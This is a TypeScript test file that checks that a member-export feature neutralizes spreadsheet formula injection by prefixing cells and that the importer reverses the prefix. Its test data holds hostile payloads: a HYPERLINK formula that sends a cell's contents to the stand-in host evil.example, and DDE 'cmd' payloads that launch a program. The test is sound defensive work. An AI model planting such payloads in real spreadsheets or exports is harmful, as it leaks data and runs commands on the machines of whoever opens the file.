import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { openTestApp, type TestApp } from './db.js';
import { one } from '../src/db/connection.js';
import { neutralizeFormula } from '../src/platform/xlsx.js';
import { normalizeCell } from '../src/platform/importer.js';

/** Issue 17 #13: no exported cell becomes a formula. */
let t: TestApp;
beforeAll(async () => {
  t = await openTestApp();
});
afterAll(async () => t?.close());

const EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe(`export formula injection (${process.env.ZHIBU_TEST_DB ?? 'pglite'})`, () => {
  it('prefixes text that starts like a formula, and the importer takes the prefix off again', () => {
    for (const v of EVIL) {
      expect(neutralizeFormula(v)).toBe(`'${v}`);
      expect(normalizeCell(neutralizeFormula(v))).toBe(v.trim());
    }
    expect(neutralizeFormula('-')).toBe('-');
    expect(neutralizeFormula('王芳')).toBe('王芳');
    expect(neutralizeFormula(-5)).toBe(-5);
  });

  it('a member named =HYPERLINK(...) is exported as text, not a formula', async () => {
    const p = (await one<{ id: number; org_id: number }>(t.ctx.db, sql`select p.id, p.org_id from people p join orgs o on o.id = p.org_id where o.code = 'SFX010101' order by p.id limit 1`))!;
    await t.ctx.db.execute(sql`update people set name = ${EVIL[0]}, work_unit = ${EVIL[3]} where id = ${p.id}`);
    const res = await t.built.app.inject({ method: 'GET', url: `/api/members/export?org=${p.org_id}`, headers: { cookie: await t.login('county') } });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    const ws = wb.worksheets[0];
    let found = 0;
    ws.eachRow((row) => row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      const v = cell.value;
      if (typeof v === 'string') {
        expect(v).not.toMatch(/^[=+@\t\r]/);
        if (v.includes('HYPERLINK') || v.includes('SUM(')) { found += 1; expect(v.startsWith("'")).toBe(true); }
      }
    }));
    expect(found).toBe(2);
    // and the raw sheet XML holds no <f> element
    const JSZip = (await import('jszip')).default;
    const zip = await JSZip.loadAsync(res.rawPayload);
    const sheetXml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheetXml).not.toContain('<f>');
  });
});
